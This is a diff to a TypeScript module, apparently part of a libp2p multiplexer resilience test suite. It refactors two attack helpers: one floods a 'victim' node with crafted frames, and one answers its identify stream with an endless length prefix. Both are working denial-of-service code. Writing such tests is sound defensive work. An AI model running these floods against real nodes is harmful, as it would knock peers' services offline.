@@ -1,9 +1,9 @@
 /** Attacks on the multiplexer, by a stranger that has finished the handshake. */
 
 import { setImmediate as turn, setTimeout as pause } from 'node:timers/promises'
-import { multiaddr } from '@multiformats/multiaddr'
-import { endlessLength } from './sockets.ts'
 import { bareConnection } from './hostile-node.ts'
+import { ended } from './repeat.ts'
+import { endlessLength } from './sockets.ts'
 
 /** Longest wait for the victim to read everything, in milliseconds. */
 const READ_MS = 60_000
@@ -46,59 +46,45 @@ export async function floodFrames({
   mib: number
   reads: boolean
 }): Promise<number> {
-  const { node, connection } = await bareConnection(multiaddr(addr))
-  try {
-    if (!reads) connection.pause()
-    const closed = new Promise<void>(resolve =>
-      connection.addEventListener('close', () => resolve(), { once: true }),
-    )
-    const answered = new Promise<void>(resolve =>
-      connection.addEventListener('message', ({ data }) => {
-        if (Buffer.from(data.subarray()).includes(LAST_ANSWER, 'hex')) resolve()
-      }),
-    )
-    const write: (n: number) => string = FRAMES[frame]
-    const total = Math.floor((mib * 2 ** 20) / 12)
-    let sent = 0
-    if (frame === 'empty-data' || frame === 'window')
-      connection.send(Buffer.from('000000010000000100000000', 'hex'))
-    const end = performance.now() + READ_MS
-    while (sent < total && connection.status === 'open' && performance.now() < end) {
-      const count = Math.min(5000, total - sent)
-      const piece = Buffer.from(Array.from({ length: count }, (_, n) => write(sent + n)).join(''), 'hex')
-      sent += count
-      if (connection.send(piece)) await turn()
-      else
-        await Promise.race([
-          closed,
-          new Promise(resolve => connection.addEventListener('drain', resolve, { once: true })),
-          pause(end - performance.now()),
-        ])
-    }
-    if (reads && connection.status === 'open') connection.send(Buffer.from(LAST_PING, 'hex'))
-    await Promise.race([reads ? answered : closed, closed, pause(reads ? READ_MS : UNREAD_MS)])
-    return sent * 12
-  } finally {
-    connection.abort(new Error('done'))
-    await node.stop()
+  await using bare = await bareConnection(addr)
+  const { connection } = bare
+  if (!reads) connection.pause()
+  const closed = ended(connection)
+  const answered = new Promise<void>(resolve =>
+    connection.addEventListener('message', ({ data }) => {
+      if (Buffer.from(data.subarray()).includes(LAST_ANSWER, 'hex')) resolve()
+    }),
+  )
+  const write: (n: number) => string = FRAMES[frame]
+  const total = Math.floor((mib * 2 ** 20) / 12)
+  let sent = 0
+  if (frame === 'empty-data' || frame === 'window')
+    connection.send(Buffer.from('000000010000000100000000', 'hex'))
+  const end = performance.now() + READ_MS
+  while (sent < total && connection.status === 'open' && performance.now() < end) {
+    const count = Math.min(5000, total - sent)
+    const piece = Buffer.from(Array.from({ length: count }, (_, n) => write(sent + n)).join(''), 'hex')
+    sent += count
+    if (connection.send(piece)) await turn()
+    else
+      await Promise.race([
+        closed,
+        new Promise(resolve => connection.addEventListener('drain', resolve, { once: true })),
+        pause(end - performance.now()),
+      ])
   }
+  if (reads && connection.status === 'open') connection.send(Buffer.from(LAST_PING, 'hex'))
+  await Promise.race([reads ? answered : closed, closed, pause(reads ? READ_MS : UNREAD_MS)])
+  return sent * 12
 }
 
 /** Answers the first stream that the victim opens itself (identify) with a length that does not end. */
 export async function answerOwnStream({ addr, bytes }: { addr: string; bytes: number }): Promise<number> {
-  const { node, connection } = await bareConnection(multiaddr(addr))
-  try {
-    const body = endlessLength(Math.min(bytes, 255 * 1024))
-    const header = Buffer.from('000000020000000200000000', 'hex')
-    header.writeUInt32BE(body.byteLength, 8)
-    connection.send(Buffer.concat([header, body]))
-    const closed = new Promise<void>(resolve =>
-      connection.addEventListener('close', () => resolve(), { once: true }),
-    )
-    await Promise.race([closed, pause(5_000)])
-    return body.byteLength
-  } finally {
-    connection.abort(new Error('done'))
-    await node.stop()
-  }
+  await using bare = await bareConnection(addr)
+  const body = endlessLength(Math.min(bytes, 255 * 1024))
+  const header = Buffer.from('000000020000000200000000', 'hex')
+  header.writeUInt32BE(body.byteLength, 8)
+  bare.connection.send(Buffer.concat([header, body]))
+  await Promise.race([ended(bare.connection), pause(5_000)])
+  return body.byteLength
 }
